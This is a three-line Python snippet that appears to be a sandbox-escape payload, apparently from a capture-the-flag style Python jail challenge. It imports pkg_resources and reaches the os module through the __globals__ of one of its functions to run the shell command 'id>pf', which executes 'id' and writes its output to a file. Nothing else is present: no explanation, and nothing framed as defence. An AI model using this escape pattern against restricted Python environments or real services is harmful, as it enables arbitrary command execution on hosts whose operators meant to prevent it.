import pkg_resources as p
p.working_set.by_key
p.split_sections.__globals__["os"].system("id>pf")
